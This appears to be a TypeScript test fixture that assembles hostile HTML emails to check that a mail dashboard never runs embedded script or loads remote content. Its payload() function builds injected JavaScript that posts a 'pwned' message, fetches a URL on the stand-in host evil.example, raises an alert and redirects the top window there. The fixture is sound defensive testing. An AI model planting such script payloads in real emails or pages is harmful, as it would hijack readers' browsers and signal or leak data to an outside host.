import { codeFamilies } from './hostile-mail-corpus-code';
import { loadFamilies } from './hostile-mail-corpus-loads';

// A corpus of hostile emails for e2e/conversation/hostile-mail-corpus.spec.ts: one email per family of vectors,
// each case a few lines of hostile markup after a visible marker ("Case <name>.") the agent must still see.
// Payloads try to be seen from the dashboard if they ever ran: a message posted to it, a fetch to evil.example,
// a dialog, the page's title or address changed. Remote images live on images.example (the only host "Show
// images" may reach); everything else that could load points at evil.example, which nothing may reach.

export interface HostileCase {
  /** Unique, kebab-case: in the visible marker and in the payload's messages. */
  name: string;
  /** Markup for the email's <head>. */
  head?: (js: string) => string;
  /** Markup for its <body>, right after the case's marker. */
  body?: (js: string) => string;
  /** Attributes of the <body> tag. */
  bodyAttributes?: (js: string) => string;
}

export interface HostileFamily {
  title: string;
  cases: HostileCase[];
  /** Remote images that "Show images" must then request (it may request other images on images.example). */
  imagesAfterShowImages?: string[];
}

export interface HostileEmail extends HostileFamily {
  html: string;
  /** The text of each case's marker, all of which must show. */
  markers: string[];
}

/** The host of the mails' remote images, and the one every other remote reference points to. */
export const IMAGE_HOST = 'images.example';
export const EVIL_HOST = 'evil.example';

/** Script that, if it ever ran, would show from outside the email (in order of the least likely to throw). */
export function payload(name: string): string {
  return (
    `parent.postMessage('pwned:${name}','*');window.name='pwned';fetch('http://${EVIL_HOST}/ran/${name}');` +
    `alert('${name}');top.document.title='pwned';top.location='http://${EVIL_HOST}/nav/${name}'`
  );
}

export const marker = (name: string) => `Case ${name}.`;

export function buildHostileEmail(family: HostileFamily): HostileEmail {
  const head = family.cases.map((c) => c.head?.(payload(c.name)) ?? '').join('\n');
  const bodyAttributes = family.cases.map((c) => c.bodyAttributes?.(payload(c.name)) ?? '').join(' ');
  const body = family.cases.map((c) => `<p>${marker(c.name)}</p>\n${c.body?.(payload(c.name)) ?? ''}`).join('\n');
  const html = `<!DOCTYPE html>\n<html><head>\n${head}\n</head><body ${bodyAttributes}>\n<h2>${family.title}</h2>\n${body}\n</body></html>`;
  return { ...family, html, markers: family.cases.map((c) => marker(c.name)) };
}

export const hostileEmails: HostileEmail[] = [...codeFamilies, ...loadFamilies].map(buildHostileEmail);
